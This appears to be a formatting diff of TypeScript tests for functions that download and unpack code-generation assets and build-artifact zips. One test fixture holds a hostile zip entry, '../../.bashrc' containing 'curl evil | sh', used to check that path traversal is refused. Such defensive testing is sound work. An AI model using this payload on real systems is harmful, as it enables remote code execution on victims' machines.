@@ -40,15 +40,15 @@ afterEach(async () => {
 function manifest(files: Record<string, string>): string {
   for (const [name, content] of Object.entries(files)) routes.set(`/files/${name}`, content)
   return JSON.stringify({
-    Output: Object.keys(files).map((name) => ({ fileName: name, schemaName: name.split('.')[0], downloadUrl: server.url(`/files/${name}`), error: null }))
+    Output: Object.keys(files).map(name => ({ fileName: name, schemaName: name.split('.')[0], downloadUrl: server.url(`/files/${name}`), error: null }))
   })
 }
 
 describe('stageCodegenAsset', () => {
   it('follows a manifest: downloads each file and leaves scratch empty', async () => {
     routes.set('/asset', manifest({ 'Button.jsx': 'button', 'Button.d.ts': 'types', 'index.js': 'index' }))
-    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
-    expect(staged.map((f) => f.path).sort()).toEqual(['Button.d.ts', 'Button.jsx', 'index.js'])
+    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
+    expect(staged.map(f => f.path).sort()).toEqual(['Button.d.ts', 'Button.jsx', 'index.js'])
     expect(await readFile(path.join(staging.root, 'Button.jsx'), 'utf8')).toBe('button')
     expect(await readdir(staging.scratch)).toEqual([])
     expect(masked).toContain(server.url('/asset'))
@@ -56,9 +56,15 @@ describe('stageCodegenAsset', () => {
   })
 
   it('unpacks a zip, as older service versions delivered', async () => {
-    routes.set('/asset', await yazlZip([{ name: 'Button.jsx', data: 'button' }, { name: 'index.js', data: 'index' }]))
-    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
-    expect(staged.map((f) => f.path).sort()).toEqual(['Button.jsx', 'index.js'])
+    routes.set(
+      '/asset',
+      await yazlZip([
+        { name: 'Button.jsx', data: 'button' },
+        { name: 'index.js', data: 'index' }
+      ])
+    )
+    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
+    expect(staged.map(f => f.path).sort()).toEqual(['Button.jsx', 'index.js'])
     expect(await staging.written()).toEqual(['Button.jsx', 'index.js'])
     expect(await readdir(staging.scratch)).toEqual([])
   })
@@ -67,12 +73,12 @@ describe('stageCodegenAsset', () => {
     const empty = rawZip([])
     expect(empty.subarray(0, 4).toString('latin1')).toBe('PK\x05\x06')
     routes.set('/asset', empty)
-    expect(await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })).toEqual([])
+    expect(await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })).toEqual([])
   })
 
   it('refuses a hostile zip asset', async () => {
     routes.set('/asset', rawZip([{ name: '../../.bashrc', data: 'curl evil | sh' }]))
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(await staging.written()).toEqual([])
   })
@@ -80,7 +86,7 @@ describe('stageCodegenAsset', () => {
   it('refuses an asset that is neither a zip nor a manifest of readable size', async () => {
     routes.set('/asset', 'x'.repeat(200))
     const limits = { ...CODEGEN_LIMITS, maxDocumentBytes: 100 }
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits  }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits }))
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(error.message).toMatch(/neither a zip nor a file list small enough to read \(200 bytes, at most 100/)
     expect(await readdir(staging.scratch)).toEqual([])
@@ -88,14 +94,14 @@ describe('stageCodegenAsset', () => {
 
   it('says so when the asset is neither a zip nor JSON', async () => {
     routes.set('/asset', '<html>maintenance</html>')
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
     expect(error).toBeInstanceOf(DownloadError)
     expect(error.message).toMatch(/not valid JSON/)
   })
 
   it('reports failed components from the manifest and downloads nothing', async () => {
     routes.set('/asset', JSON.stringify({ Output: [{ fileName: 'Hero.jsx', schemaName: 'Hero', error: 'bad binding' }] }))
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS }))
     expect(error).toBeInstanceOf(JobFailedError)
     expect(server.requests).toEqual(['/asset'])
   })
@@ -107,7 +113,7 @@ describe('stageCodegenAsset', () => {
       res.end('{"Output":[]}')
     })
     try {
-      await stageCodegenAsset(s.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
+      await stageCodegenAsset(s.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS })
       expect(maskedAtRequest).toBeGreaterThan(0)
       expect(masked).toContain(s.url('/asset'))
     } finally {
@@ -118,12 +124,18 @@ describe('stageCodegenAsset', () => {
 
 describe('stageZipFromUrl', () => {
   it('downloads build artifacts into scratch, unpacks them and removes the archive', async () => {
-    routes.set('/artifacts.zip', await yazlZip([{ name: 'index.html', data: '<html>' }, { name: 'static/app.js', data: 'app' }]))
+    routes.set(
+      '/artifacts.zip',
+      await yazlZip([
+        { name: 'index.html', data: '<html>' },
+        { name: 'static/app.js', data: 'app' }
+      ])
+    )
     const staged = await stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, {
       limits: ARTIFACT_LIMITS,
       what: 'the build artifacts of job 7'
     })
-    expect(staged.map((f) => f.path).sort()).toEqual(['index.html', 'static/app.js'])
+    expect(staged.map(f => f.path).sort()).toEqual(['index.html', 'static/app.js'])
     expect(await readdir(staging.scratch)).toEqual([])
     expect(masked).toContain(server.url('/artifacts.zip'))
   })
